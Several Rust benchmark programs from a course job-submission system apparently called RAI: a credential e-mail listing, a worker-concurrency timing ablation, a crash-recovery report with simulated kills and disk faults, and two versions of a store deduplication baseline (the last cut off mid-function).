    rai_bench::header("Listing 3 — authentication e-mails from the class roster");
    let mut first_email_body = String::new();
    for entry in &roster.entries {
        let creds = keygen.generate(&entry.user_id);
        let mail = render_key_email(&entry.clone(), &creds, "illinois.edu");
        println!("To: {}\nSubject: {}\n", mail.to, mail.subject);
        if first_email_body.is_empty() {
            first_email_body = mail.body.clone();
            println!("{}", mail.body);
            println!("--- (remaining {} e-mails elided) ---\n", roster.len() - 1);
        }
    }

    rai_bench::header("paper vs measured");
    println!("  roster format   paper: {{firstname,lastname,userid}} CSV   measured: same");
    println!("  tokens          paper: RAI_USER_NAME / RAI_ACCESS_KEY / RAI_SECRET_KEY");
    let parsed = Credentials::from_profile(&first_email_body).expect("profile embedded in e-mail");
    println!("  e-mail profile parses back: access key {} chars", parsed.access_key.len());
    assert_eq!(parsed.access_key.len(), 26, "paper keys are 26 chars");
}
