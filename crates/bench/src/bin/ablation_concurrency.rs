//! Ablation for the **§V timing-accuracy claim**: "In the last two
//! weeks of the project … the worker accepts only one task at a time —
//! this makes the performance timing more accurate and repeatable."
//!
//! The same final submission is measured repeatedly on workers
//! configured with 1, 2, 4 and 8 co-scheduled jobs; the coefficient of
//! variation (std-dev / mean) of the measured runtime is the
//! repeatability metric.
//!
//! ```text
//! cargo run --release -p rai-bench --bin ablation_concurrency
//! ```

use parking_lot::RwLock;
use rai_auth::{CredentialRegistry, KeyGenerator};
use rai_bench::staged_final_request;
use rai_broker::Broker;
use rai_core::client::ProjectDir;
use rai_core::worker::{Worker, WorkerConfig};
use rai_db::Database;
use rai_sandbox::ImageRegistry;
use rai_sim::VirtualClock;
use rai_telemetry::OnlineStats;
use rai_store::{LifecycleRule, ObjectStore};
use std::sync::Arc;

const RUNS: usize = 60;

fn main() {
    let store = ObjectStore::new(VirtualClock::new());
    store
        .create_bucket(rai_core::client::UPLOAD_BUCKET, LifecycleRule::Keep)
        .expect("fresh store");
    store
        .create_bucket(rai_core::client::BUILD_BUCKET, LifecycleRule::Keep)
        .expect("fresh store");
    let registry = Arc::new(RwLock::new(CredentialRegistry::new()));
    let creds = KeyGenerator::from_seed(7).generate("bench-team");
    registry.write().register(creds.clone());
    let project = ProjectDir::cuda_project_with_perf(470.0, 0.93, 1024).with_final_artifacts();

    rai_bench::header("timing repeatability vs jobs-in-flight per worker");
    println!(
        "  {:<14} {:>10} {:>10} {:>10} {:>8}",
        "jobs/worker", "mean (s)", "min (s)", "max (s)", "CV"
    );
    let mut cvs = Vec::new();
    for jobs_per_worker in [1usize, 2, 4, 8] {
        let mut worker = Worker::new(
            WorkerConfig {
                worker_id: format!("bench-{jobs_per_worker}"),
                max_in_flight: jobs_per_worker,
                noise_seed: 42,
                ..Default::default()
            },
            Broker::default(),
            store.clone(),
            Database::new(),
            registry.clone(),
            Arc::new(ImageRegistry::course_default()),
        );
        let mut stats = OnlineStats::new();
        for run in 0..RUNS {
            let request = staged_final_request(
                &store,
                &creds,
                "bench-team",
                &project,
                (jobs_per_worker * 1000 + run) as u64,
            );
            let outcome = worker.process_with_coscheduled(&request, jobs_per_worker - 1);
            assert!(outcome.success, "bench job must succeed");
            stats.push(outcome.measured_secs.expect("program ran"));
        }
        println!(
            "  {:<14} {:>10.4} {:>10.4} {:>10.4} {:>7.2}%",
            jobs_per_worker,
            stats.mean(),
            stats.min(),
            stats.max(),
            stats.cv() * 100.0
        );
        cvs.push(stats.cv());
    }

    rai_bench::header("paper vs measured");
    println!("  paper: single-job workers give 'more accurate and repeatable' timing");
    println!(
        "  measured: CV grows monotonically with co-scheduled jobs: {:?}",
        cvs.iter().map(|c| format!("{:.2}%", c * 100.0)).collect::<Vec<_>>()
    );
    assert!(cvs[0] < 0.01, "single-job timing should be near-deterministic");
    assert!(cvs[3] > cvs[0], "contention must hurt repeatability");
}
