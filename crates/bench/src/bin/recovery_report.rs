//! **Crash-recovery baseline**: kill the durable deployment at seeded
//! points, recover from the write-ahead logs, and commit the replay
//! numbers to `BENCH_recovery.json`.
//!
//! Write mode (default) runs, per pinned seed:
//!
//! 1. the **clean-kill byte-identity gate** — a fault-free quick course
//!    killed mid-drive, recovered, resumed, at payload-pipeline widths
//!    1 and 4 crossed with lock-domain shard counts 1 and 4 (sharded
//!    runs journal chunk installs on per-shard WAL lanes and recover
//!    from them, DESIGN.md §16) crossed with claim-lane counts 1 and 4
//!    (DESIGN.md §17), asserting every recovered fingerprint equals
//!    the uninterrupted same-seed run's;
//! 2. the **chaos restart audit** — the full quick fault plan with a
//!    mid-drive kill: zero lost, zero duplicated, everything accounted
//!    across the restart;
//! 3. the **dirty-crash audit** — the same kill plus seeded disk
//!    faults on the logs' unsynced tails: the damage must surface in
//!    the replay ledger (torn bytes / corrupt records dropped), never
//!    as lost submissions or a panic;
//! 4. the **compaction gate** — aggressive thresholds so both logs
//!    snapshot mid-course, then a post-compaction kill recovering from
//!    snapshot + tail, byte-identical again;
//! 5. a **replay wall-clock** measurement (stdout + a `host` section
//!    the check mode deliberately ignores — wall time is a host fact).
//!
//! Check mode (`--check`, the CI recovery job) re-runs everything and
//! requires every *deterministic* field to match the committed JSON
//! exactly: fingerprints, accepted/terminal/dead-letter/republish
//! counts, replayed-record counts, corruption drops, compaction
//! counts. The `host` section is exempt. It writes nothing.
//!
//! ```text
//! cargo run --release -p rai-bench --bin recovery_report [--check] [seed...]
//! ```
//!
//! The JSON schema is documented in EXPERIMENTS.md.

use rai_wal::DurabilityConfig;
use rai_workload::chaos::ChaosConfig;
use rai_workload::recovery::{run_recovery, KillPoint, RecoveryConfig, RecoveryResult};

/// Pinned seeds, matching the chaos acceptance job.
const SEEDS: [u64; 3] = [2016, 408, 50181];

/// Exec widths the clean-kill byte-identity gate sweeps.
const WIDTHS: [usize; 2] = [1, 4];

/// Lock-domain shard counts crossed with the widths — at `4`, the
/// store journals chunk installs on four per-shard WAL lanes and the
/// recovery replays all of them plus the main log (DESIGN.md §16).
const SHARDS: [usize; 2] = [1, 4];

/// Claim-lane counts crossed with the widths and shards — inert by
/// the serial-fallback rule whenever a fault plan is attached, which
/// the byte-identity gate proves across a kill/replay boundary
/// (DESIGN.md §17).
const CLAIM_LANES: [usize; 2] = [1, 4];

/// The seeded kill point every scenario uses: mid-drive, a few worker
/// steps into round 5 of the 12-round quick course.
const KILL: KillPoint = KillPoint { round: 5, after_steps: Some(2) };

/// Everything deterministic one seed's sweep produces.
struct SeedReport {
    seed: u64,
    /// Fingerprint shared by the uninterrupted run and every recovered
    /// run of the clean fault-free course.
    clean_fingerprint: u64,
    clean_accepted: usize,
    /// Chaos-plan restart audit numbers.
    chaos_accepted: usize,
    chaos_terminal: usize,
    chaos_dead_lettered: usize,
    chaos_republished: u64,
    chaos_db_replayed: u64,
    chaos_store_replayed: u64,
    /// Dirty-crash audit numbers (disk-fault draws are seeded, so
    /// these reproduce exactly).
    dirty_disk_faults: usize,
    dirty_corrupt_dropped: u64,
    dirty_torn_bytes: u64,
    dirty_terminal: usize,
    dirty_dead_lettered: usize,
    /// Compaction-gate numbers.
    compactions: u64,
    /// Cumulative bytes ever appended across both logs vs bytes
    /// resident after compaction — the log-bound the snapshots buy.
    compaction_ratio: f64,
}

/// Host facts: replay wall clock. Reported, committed for reference,
/// never drift-checked.
struct HostReport {
    replay_wall_ms: f64,
    replayed_records: u64,
}

fn aggressive(durability: DurabilityConfig) -> DurabilityConfig {
    DurabilityConfig {
        segment_bytes: 16 << 10,
        compact_min_bytes: 4 << 10,
        compact_factor: 2,
        ..durability
    }
}

fn run_seed(seed: u64) -> SeedReport {
    // 1. Clean-kill byte-identity, widths 1 and 4.
    let clean_cfg = RecoveryConfig::clean(seed, KILL);
    let baseline = run_recovery(&RecoveryConfig { kill: None, ..clean_cfg.clone() });
    baseline.verify().expect("uninterrupted clean run audits");
    for width in WIDTHS {
        for shards in SHARDS {
            for lanes in CLAIM_LANES {
                let mut cfg = clean_cfg.clone();
                cfg.chaos = cfg
                    .chaos
                    .with_parallelism(width)
                    .with_shards(shards)
                    .with_claim_lanes(lanes);
                let resumed = run_recovery(&cfg);
                assert!(resumed.killed, "seed {seed}: kill point never fired");
                resumed.verify().expect("recovered clean run audits");
                assert_eq!(
                    resumed.fingerprint, baseline.fingerprint,
                    "seed {seed} width {width} shards {shards} claim_lanes {lanes}: recovered run differs from uninterrupted run"
                );
            }
        }
    }

    // 2. Chaos restart audit — and the same restart recovered from
    // per-shard logs must land on identical bytes and audit numbers.
    let chaos = run_recovery(&RecoveryConfig {
        chaos: ChaosConfig::quick(seed),
        kill: Some(KILL),
        disk_faults: None,
        durability: DurabilityConfig::durable(),
    });
    assert!(chaos.killed);
    chaos
        .verify()
        .expect("zero lost / zero duplicated across the chaos restart");
    let report = chaos.recovery.expect("a recovery happened");
    assert_eq!(report.db.malformed_dropped, 0, "clean crash corrupts nothing");
    let chaos_sharded = run_recovery(&RecoveryConfig {
        chaos: ChaosConfig::quick(seed).with_shards(4).with_claim_lanes(4),
        kill: Some(KILL),
        disk_faults: None,
        durability: DurabilityConfig::durable(),
    });
    assert!(chaos_sharded.killed);
    chaos_sharded
        .verify()
        .expect("zero lost / zero duplicated across the sharded-log restart");
    assert_eq!(
        chaos_sharded.fingerprint, chaos.fingerprint,
        "seed {seed}: per-shard-log restart differs from the single-log restart"
    );
    assert_eq!(
        (chaos_sharded.terminal.len(), chaos_sharded.dead_lettered.len()),
        (chaos.terminal.len(), chaos.dead_lettered.len()),
        "seed {seed}: sharded restart changed the audit counts"
    );

    // 3. Dirty crash.
    let dirty = run_recovery(&RecoveryConfig::dirty(seed, KILL));
    assert!(dirty.killed);
    dirty
        .verify()
        .expect("zero lost / zero duplicated after the dirty crash");
    if !dirty.disk_faults.is_empty() {
        assert!(
            dirty.db_wal.corrupt_dropped + dirty.store_wal.corrupt_dropped > 0
                || dirty.db_wal.torn_bytes + dirty.store_wal.torn_bytes > 0,
            "seed {seed}: injected faults {:?} left no trace in the replay ledger",
            dirty.disk_faults
        );
    }

    // 4. Compaction gate: snapshots mid-course, then a byte-identical
    // post-compaction recovery.
    let mut compact_cfg = RecoveryConfig::clean(seed, KillPoint::mid_drive(9, 1));
    compact_cfg.durability = aggressive(compact_cfg.durability);
    let compact_base = run_recovery(&RecoveryConfig { kill: None, ..compact_cfg.clone() });
    assert!(
        compact_base.db_wal.compactions > 0 && compact_base.store_wal.compactions > 0,
        "seed {seed}: compaction thresholds never tripped"
    );
    let compact_resumed = run_recovery(&compact_cfg);
    compact_resumed.verify().unwrap();
    assert_eq!(
        compact_resumed.fingerprint, compact_base.fingerprint,
        "seed {seed}: snapshot + tail recovery differs from uninterrupted run"
    );
    let appended = compact_base.db_wal.bytes + compact_base.store_wal.bytes;
    let resident = compact_base.db_wal.log_bytes + compact_base.store_wal.log_bytes;
    assert!(resident < appended, "compaction must shrink the resident log");

    SeedReport {
        seed,
        clean_fingerprint: baseline.fingerprint,
        clean_accepted: baseline.accepted.len(),
        chaos_accepted: chaos.accepted.len(),
        chaos_terminal: chaos.terminal.len(),
        chaos_dead_lettered: chaos.dead_lettered.len(),
        chaos_republished: chaos.republished,
        chaos_db_replayed: report.db.stats.replayed,
        chaos_store_replayed: report.store.stats.replayed,
        dirty_disk_faults: dirty.disk_faults.len(),
        dirty_corrupt_dropped: dirty.db_wal.corrupt_dropped + dirty.store_wal.corrupt_dropped,
        dirty_torn_bytes: dirty.db_wal.torn_bytes + dirty.store_wal.torn_bytes,
        dirty_terminal: dirty.terminal.len(),
        dirty_dead_lettered: dirty.dead_lettered.len(),
        compactions: compact_base.db_wal.compactions + compact_base.store_wal.compactions,
        compaction_ratio: appended as f64 / resident.max(1) as f64,
    }
}

/// Time one recovery in isolation: the fault-free course killed at the
/// pinned point, clock started when the logs are handed to replay.
fn measure_replay_wall(seed: u64) -> HostReport {
    // The killed run's logs are rebuilt inside run_recovery; timing the
    // whole killed run vs the uninterrupted run would mix workload wall
    // into the number. Instead, time N recovered runs against N
    // uninterrupted ones and attribute the difference to recovery
    // (replay + re-publish + re-drive of the killed round).
    let cfg = RecoveryConfig::clean(seed, KILL);
    let base_cfg = RecoveryConfig { kill: None, ..cfg.clone() };
    const N: u32 = 5;
    let time = |c: &RecoveryConfig| -> (f64, RecoveryResult) {
        let start = std::time::Instant::now();
        let mut last = None;
        for _ in 0..N {
            last = Some(run_recovery(c));
        }
        (start.elapsed().as_secs_f64() * 1e3 / f64::from(N), last.expect("ran"))
    };
    let (uninterrupted_ms, _) = time(&base_cfg);
    let (killed_ms, result) = time(&cfg);
    let report = result.recovery.expect("recovery happened");
    HostReport {
        replay_wall_ms: (killed_ms - uninterrupted_ms).max(0.0),
        replayed_records: report.db.stats.replayed + report.store.stats.replayed,
    }
}

fn render_json(seeds: &[SeedReport], host: &HostReport) -> String {
    let list = |f: &dyn Fn(&SeedReport) -> String| -> String {
        seeds.iter().map(f).collect::<Vec<_>>().join(", ")
    };
    let mut out = String::new();
    out.push_str("{\n");
    out.push_str("  \"schema\": \"rai-recovery-bench/3\",\n");
    out.push_str(&format!("  \"seeds\": [{}],\n", list(&|s| s.seed.to_string())));
    out.push_str(&format!(
        "  \"widths_checked\": [{}, {}],\n",
        WIDTHS[0], WIDTHS[1]
    ));
    out.push_str(&format!(
        "  \"shards_checked\": [{}, {}],\n",
        SHARDS[0], SHARDS[1]
    ));
    out.push_str(&format!(
        "  \"claim_lanes_checked\": [{}, {}],\n",
        CLAIM_LANES[0], CLAIM_LANES[1]
    ));
    out.push_str("  \"clean_kill\": {\n");
    out.push_str(&format!(
        "    \"fingerprints\": [{}],\n",
        list(&|s| format!("\"{:#018x}\"", s.clean_fingerprint))
    ));
    out.push_str(&format!(
        "    \"accepted\": [{}]\n",
        list(&|s| s.clean_accepted.to_string())
    ));
    out.push_str("  },\n");
    out.push_str("  \"chaos_restart\": {\n");
    out.push_str(&format!("    \"accepted\": [{}],\n", list(&|s| s.chaos_accepted.to_string())));
    out.push_str(&format!("    \"terminal\": [{}],\n", list(&|s| s.chaos_terminal.to_string())));
    out.push_str(&format!(
        "    \"dead_lettered\": [{}],\n",
        list(&|s| s.chaos_dead_lettered.to_string())
    ));
    out.push_str(&format!(
        "    \"republished\": [{}],\n",
        list(&|s| s.chaos_republished.to_string())
    ));
    out.push_str(&format!(
        "    \"db_records_replayed\": [{}],\n",
        list(&|s| s.chaos_db_replayed.to_string())
    ));
    out.push_str(&format!(
        "    \"store_records_replayed\": [{}]\n",
        list(&|s| s.chaos_store_replayed.to_string())
    ));
    out.push_str("  },\n");
    out.push_str("  \"dirty_crash\": {\n");
    out.push_str(&format!(
        "    \"disk_faults_injected\": [{}],\n",
        list(&|s| s.dirty_disk_faults.to_string())
    ));
    out.push_str(&format!(
        "    \"corrupt_records_dropped\": [{}],\n",
        list(&|s| s.dirty_corrupt_dropped.to_string())
    ));
    out.push_str(&format!(
        "    \"torn_bytes\": [{}],\n",
        list(&|s| s.dirty_torn_bytes.to_string())
    ));
    out.push_str(&format!("    \"terminal\": [{}],\n", list(&|s| s.dirty_terminal.to_string())));
    out.push_str(&format!(
        "    \"dead_lettered\": [{}],\n",
        list(&|s| s.dirty_dead_lettered.to_string())
    ));
    out.push_str("    \"audit\": \"pass\"\n");
    out.push_str("  },\n");
    out.push_str("  \"compaction\": {\n");
    out.push_str(&format!("    \"compactions\": [{}],\n", list(&|s| s.compactions.to_string())));
    out.push_str(&format!(
        "    \"ratio\": [{}]\n",
        list(&|s| format!("{:.4}", s.compaction_ratio))
    ));
    out.push_str("  },\n");
    out.push_str("  \"host\": {\n");
    out.push_str("    \"note\": \"wall-clock facts; excluded from --check\",\n");
    out.push_str(&format!("    \"replayed_records\": {},\n", host.replayed_records));
    out.push_str(&format!("    \"replay_wall_ms\": {:.2}\n", host.replay_wall_ms));
    out.push_str("  }\n");
    out.push_str("}\n");
    out
}

/// Blank out the `host` section (host facts are not drift-checked).
fn strip_host(json: &str) -> String {
    let Some(start) = json.find("  \"host\": {") else { return json.to_string() };
    let rest = &json[start..];
    let end = rest.find("\n  }").map(|i| i + 4).unwrap_or(rest.len());
    format!("{}{}", &json[..start], &rest[end..])
}

fn print_seed(s: &SeedReport) {
    println!("  seed {}", s.seed);
    println!(
        "    clean kill       fingerprint {:#018x} over {} accepted, identical at widths {:?} x shards {:?} x claim lanes {:?}",
        s.clean_fingerprint, s.clean_accepted, WIDTHS, SHARDS, CLAIM_LANES
    );
    println!(
        "    chaos restart    {} accepted -> {} terminal + {} dead-lettered, {} republished",
        s.chaos_accepted, s.chaos_terminal, s.chaos_dead_lettered, s.chaos_republished
    );
    println!(
        "    replayed         {} db + {} store records",
        s.chaos_db_replayed, s.chaos_store_replayed
    );
    println!(
        "    dirty crash      {} disk faults -> {} corrupt dropped, {} torn bytes, audit pass",
        s.dirty_disk_faults, s.dirty_corrupt_dropped, s.dirty_torn_bytes
    );
    println!(
        "    compaction       {} snapshots, {:.2}x log-bound",
        s.compactions, s.compaction_ratio
    );
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let check_mode = args.iter().any(|a| a == "--check");
    let seeds: Vec<u64> = {
        let parsed: Vec<u64> = args.iter().filter_map(|a| a.parse().ok()).collect();
        if parsed.is_empty() { SEEDS.to_vec() } else { parsed }
    };

    rai_bench::header(&format!(
        "crash-recovery {} — seeds {seeds:?}",
        if check_mode { "check" } else { "baseline" }
    ));
    let reports: Vec<SeedReport> = seeds.iter().map(|&s| run_seed(s)).collect();
    for r in &reports {
        print_seed(r);
    }
    let host = measure_replay_wall(seeds[0]);
    println!(
        "  replay wall (seed {}): {:.2} ms over {} records (host fact, not gated)",
        seeds[0], host.replay_wall_ms, host.replayed_records
    );

    // Poison-job sanity: with the quick plan, dead letters exist and
    // every one is a poison id — re-publish must not dead-letter a
    // healthy job.
    for r in &reports {
        assert!(
            r.chaos_dead_lettered > 0,
            "seed {}: quick plan should dead-letter its poison jobs",
            r.seed
        );
    }

    let json = render_json(&reports, &host);
    if check_mode {
        let committed = std::fs::read_to_string("BENCH_recovery.json")
            .expect("read committed BENCH_recovery.json");
        assert_eq!(
            strip_host(&committed),
            strip_host(&json),
            "recovery baseline drifted from BENCH_recovery.json \
             (regenerate it if the durability model changed on purpose)"
        );
        println!("\nrecovery check: all deterministic fields match BENCH_recovery.json");
    } else {
        std::fs::write("BENCH_recovery.json", &json).expect("write BENCH_recovery.json");
        println!("\nwrote BENCH_recovery.json");
    }
}
