//! The **store dedup baseline**: measures what the content-addressed
//! store saves on the semester and chaos workloads and writes the
//! numbers to `BENCH_store.json` as the perf-trajectory baseline.
//!
//! Per seed, this bin:
//!
//! 1. runs the pinned semester workload and reports logical vs
//!    physical resident bytes, wire bytes vs logical upload bytes,
//!    and chunk/dedup counts;
//! 2. runs the chaos acceptance scenario and asserts the
//!    no-lost/no-duplicated audit still holds with dedup enabled;
//! 3. asserts the dedup ratio floor (physical ≤ 1/3 of logical);
//! 4. re-runs the semester on the same seed — once sequentially and
//!    once with the payload pipeline on a 4-worker `rai-exec` pool —
//!    and asserts the rendered JSON is byte-identical both times
//!    (determinism gate; chunk boundaries and dedup accounting must
//!    not move with the pool width);
//! 5. measures chunker throughput on a synthetic buffer (printed to
//!    stdout only — wall-clock numbers never go into the JSON).
//!
//! The four scenario runs are independent pure functions of the seed,
//! so they are fanned out across a `rai-exec` pool sized to the host;
//! rendering and assertions stay sequential.
//!
//! ```text
//! cargo run --release -p rai-bench --bin store_report [seed]
//! ```
//!
//! The JSON schema is documented in EXPERIMENTS.md.

use rai_archive::chunk::{chunk_bytes, ChunkerParams};
use rai_exec::Executor;
use rai_store::StoreUsage;
use rai_workload::chaos::{run_chaos, ChaosConfig};
use rai_workload::semester::{run_semester, SemesterConfig};

/// Pinned semester scale for the baseline: big enough for the dedup
/// ratios to stabilize, small enough for a CI smoke job.
const TEAMS: usize = 12;
const DAYS: u64 = 21;

fn ratio(num: u64, den: u64) -> f64 {
    if den == 0 {
        0.0
    } else {
        num as f64 / den as f64
    }
}

fn usage_json(u: &StoreUsage, indent: &str) -> String {
    format!(
        "{indent}\"bytes_logical_resident\": {},\n\
         {indent}\"bytes_physical_resident\": {},\n\
         {indent}\"bytes_uploaded\": {},\n\
         {indent}\"bytes_wire\": {},\n\
         {indent}\"chunks_resident\": {},\n\
         {indent}\"chunks_dedup_total\": {},\n\
         {indent}\"puts\": {},\n\
         {indent}\"delta_puts\": {},\n\
         {indent}\"dedup_ratio\": {:.4},\n\
         {indent}\"wire_savings_ratio\": {:.4}",
        u.bytes_stored,
        u.bytes_physical,
        u.bytes_uploaded,
        u.bytes_wire,
        u.chunks,
        u.chunks_dedup_total,
        u.puts,
        u.delta_puts,
        ratio(u.bytes_stored, u.bytes_physical),
        ratio(u.bytes_uploaded, u.bytes_wire),
    )
}

fn render(seed: u64, semester: &StoreUsage, submissions: u64, chaos: &StoreUsage, accepted: usize) -> String {
    let mut out = String::new();
    out.push_str("{\n");
    out.push_str("  \"schema\": \"rai-store-bench/1\",\n");
    out.push_str(&format!("  \"seed\": {seed},\n"));
    out.push_str("  \"semester\": {\n");
    out.push_str(&format!("    \"teams\": {TEAMS},\n"));
    out.push_str(&format!("    \"days\": {DAYS},\n"));
    out.push_str(&format!("    \"submissions\": {submissions},\n"));
    out.push_str(&usage_json(semester, "    "));
    out.push_str("\n  },\n");
    out.push_str("  \"chaos\": {\n");
    out.push_str(&format!("    \"accepted\": {accepted},\n"));
    out.push_str("    \"audit\": \"pass\",\n");
    out.push_str(&usage_json(chaos, "    "));
    out.push_str("\n  }\n");
    out.push_str("}\n");
    out
}

fn chunker_throughput() {
    // 8 MiB of pseudorandom bytes; wall-clock only, never in the JSON.
    let mut state = 0x5EEDu64;
    let buf: Vec<u8> = (0..8 << 20)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect();
    let start = std::time::Instant::now();
    let (manifest, _) = chunk_bytes(&buf, ChunkerParams::DEFAULT);
    let elapsed = start.elapsed().as_secs_f64();
    println!(
        "  chunker throughput          {:.0} MiB/s ({} chunks, mean {} B)",
        (buf.len() as f64 / (1 << 20) as f64) / elapsed,
        manifest.chunks.len(),
        buf.len() / manifest.chunks.len().max(1),
    );
}

fn main() {
    let seed: u64 = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(2016);

    let sem_config = SemesterConfig::scaled(TEAMS, DAYS, seed);
    let chaos_config = ChaosConfig::acceptance(seed);

    // All four scenario runs are pure functions of their configs: fan
    // them out, then render and assert sequentially.
    let exec = Executor::new(
        std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1),
    );
    let (mut semester, mut semester2, mut pooled, mut chaos) = (None, None, None, None);
    exec.scope(|s| {
        s.spawn(|| semester = Some(run_semester(&sem_config)));
        s.spawn(|| semester2 = Some(run_semester(&sem_config)));
        s.spawn(|| pooled = Some(run_semester(&sem_config.clone().with_parallelism(4))));
        s.spawn(|| chaos = Some(run_chaos(&chaos_config)));
    });
    let (semester, semester2, pooled, chaos) = (
        semester.expect("semester run joined"),
        semester2.expect("semester re-run joined"),
        pooled.expect("pooled semester run joined"),
        chaos.expect("chaos run joined"),
    );
    chaos
        .verify()
        .expect("chaos no-lost/no-duplicated audit must hold with dedup enabled");

    let json = render(
        seed,
        &semester.store,
        semester.total_submissions,
        &chaos.store,
        chaos.accepted.len(),
    );

    // Determinism gate: a same-seed re-run must render byte-identical
    // JSON (the semester is the trajectory baseline; flapping numbers
    // would poison every future comparison) — and so must a re-run
    // with the payload pipeline on a 4-worker pool (chunk boundaries
    // and dedup accounting are width-invariant).
    let rerender = |r: &rai_workload::semester::SemesterResult| {
        render(
            seed,
            &r.store,
            r.total_submissions,
            &chaos.store,
            chaos.accepted.len(),
        )
    };
    assert_eq!(
        json,
        rerender(&semester2),
        "same-seed semester must be byte-identical"
    );
    assert_eq!(
        json,
        rerender(&pooled),
        "parallelism-4 semester must render byte-identical store accounting"
    );

    rai_bench::header(&format!("store dedup baseline — seed {seed}"));
    let u = &semester.store;
    println!("  semester ({TEAMS} teams x {DAYS} days, {} submissions)", semester.total_submissions);
    println!("    logical resident bytes    {}", u.bytes_stored);
    println!("    physical resident bytes   {}", u.bytes_physical);
    println!("    dedup ratio               {:.2}x", ratio(u.bytes_stored, u.bytes_physical));
    println!("    uploaded (logical) bytes  {}", u.bytes_uploaded);
    println!("    wire bytes                {}", u.bytes_wire);
    println!("    wire savings              {:.2}x", ratio(u.bytes_uploaded, u.bytes_wire));
    println!("    chunks resident           {}", u.chunks);
    println!("    dedup hits                {}", u.chunks_dedup_total);
    println!("    puts / delta puts         {} / {}", u.puts, u.delta_puts);
    let c = &chaos.store;
    println!("  chaos ({} accepted, audit pass)", chaos.accepted.len());
    println!("    dedup ratio               {:.2}x", ratio(c.bytes_stored, c.bytes_physical));
    println!("    wire savings              {:.2}x", ratio(c.bytes_uploaded, c.bytes_wire));
    chunker_throughput();

    // The acceptance floor: dedup must collapse the semester's
    // resident bytes at least 3x.
    let dedup = ratio(u.bytes_stored, u.bytes_physical);
    assert!(
        dedup >= 3.0,
        "dedup ratio {dedup:.2}x below the 3x floor (physical {} vs logical {})",
        u.bytes_physical,
        u.bytes_stored
    );

    std::fs::write("BENCH_store.json", &json).expect("write BENCH_store.json");
    println!("\nwrote BENCH_store.json (dedup {dedup:.2}x >= 3x floor)");
}
