//! The **store dedup baseline**: measures what the content-addressed
//! store saves on the semester and chaos workloads and writes the
//! numbers to `BENCH_store.json` as the perf-trajectory baseline.
//!
//! Per seed, this bin:
//!
//! 1. runs the pinned semester workload and reports logical vs
//!    physical resident bytes, wire bytes vs logical upload bytes,
//!    and chunk/dedup counts;
//! 2. runs the chaos acceptance scenario and asserts the
//!    no-lost/no-duplicated audit still holds with dedup enabled;
//! 3. asserts the dedup ratio floor (physical ≤ 1/3 of logical);
//! 4. re-runs the semester on the same seed and asserts the rendered
//!    JSON is byte-identical (determinism gate);
//! 5. measures chunker throughput on a synthetic buffer (printed to
//!    stdout only — wall-clock numbers never go into the JSON).
//!
//! ```text
//! cargo run --release -p rai-bench --bin store_report [seed]
//! ```
//!
//! The JSON schema is documented in EXPERIMENTS.md.

use rai_archive::chunk::{chunk_bytes, ChunkerParams};
use rai_store::StoreUsage;
use rai_workload::chaos::{run_chaos, ChaosConfig};
use rai_workload::semester::{run_semester, SemesterConfig};

/// Pinned semester scale for the baseline: big enough for the dedup
/// ratios to stabilize, small enough for a CI smoke job.
const TEAMS: usize = 12;
const DAYS: u64 = 21;

fn ratio(num: u64, den: u64) -> f64 {
    if den == 0 {
        0.0
    } else {
        num as f64 / den as f64
    }
}

fn usage_json(u: &StoreUsage, indent: &str) -> String {
    format!(
        "{indent}\"bytes_logical_resident\": {},\n\
         {indent}\"bytes_physical_resident\": {},\n\
         {indent}\"bytes_uploaded\": {},\n\
         {indent}\"bytes_wire\": {},\n\
         {indent}\"chunks_resident\": {},\n\
         {indent}\"chunks_dedup_total\": {},\n\
         {indent}\"puts\": {},\n\
         {indent}\"delta_puts\": {},\n\
         {indent}\"dedup_ratio\": {:.4},\n\
         {indent}\"wire_savings_ratio\": {:.4}",
        u.bytes_stored,
        u.bytes_physical,
        u.bytes_uploaded,
        u.bytes_wire,
        u.chunks,
        u.chunks_dedup_total,
        u.puts,
        u.delta_puts,
        ratio(u.bytes_stored, u.bytes_physical),
        ratio(u.bytes_uploaded, u.bytes_wire),
    )
}

fn render(seed: u64, semester: &StoreUsage, submissions: u64, chaos: &StoreUsage, accepted: usize) -> String {
    let mut out = String::new();
    out.push_str("{\n");
    out.push_str("  \"schema\": \"rai-store-bench/1\",\n");
    out.push_str(&format!("  \"seed\": {seed},\n"));
    out.push_str("  \"semester\": {\n");
    out.push_str(&format!("    \"teams\": {TEAMS},\n"));
    out.push_str(&format!("    \"days\": {DAYS},\n"));
    out.push_str(&format!("    \"submissions\": {submissions},\n"));
    out.push_str(&usage_json(semester, "    "));
    out.push_str("\n  },\n");
    out.push_str("  \"chaos\": {\n");
    out.push_str(&format!("    \"accepted\": {accepted},\n"));
    out.push_str("    \"audit\": \"pass\",\n");
    out.push_str(&usage_json(chaos, "    "));
    out.push_str("\n  }\n");
    out.push_str("}\n");
    out
}

fn chunker_throughput() {
    // 8 MiB of pseudorandom bytes; wall-clock only, never in the JSON.
    let mut state = 0x5EEDu64;
    let buf: Vec<u8> = (0..8 << 20)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect();
    let start = std::time::Instant::now();
    let (manifest, _) = chunk_bytes(&buf, ChunkerParams::DEFAULT);
    let elapsed = start.elapsed().as_secs_f64();
    println!(
        "  chunker throughput          {:.0} MiB/s ({} chunks, mean {} B)",
        (buf.len() as f64 / (1 << 20) as f64) / elapsed,
        manifest.chunks.len(),
        buf.len() / manifest.chunks.len().max(1),
    );
}

fn main() {
    let seed: u64 = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(2016);

    let sem_config = SemesterConfig::scaled(TEAMS, DAYS, seed);
    let semester = run_semester(&sem_config);
    let chaos_config = ChaosConfig::acceptance(seed);
    let chaos = run_chaos(&chaos_config);
    chaos
        .verify()
        .expect("chaos no-lost/no-duplicated audit must hold with dedup enabled");

    let json = render(
        seed,
        &semester.store,
        semester.total_submissions,
        &chaos.store,
        chaos.accepted.len(),
    );

    // Determinism gate: a same-seed re-run must render byte-identical
    // JSON (the semester is the trajectory baseline; flapping numbers
    // would poison every future comparison).
    let semester2 = run_semester(&sem_config);
    let json2 = render(
        seed,
        &semester2.store,
        semester2.total_submissions,
        &chaos.store,
        chaos.accepted.len(),
    );
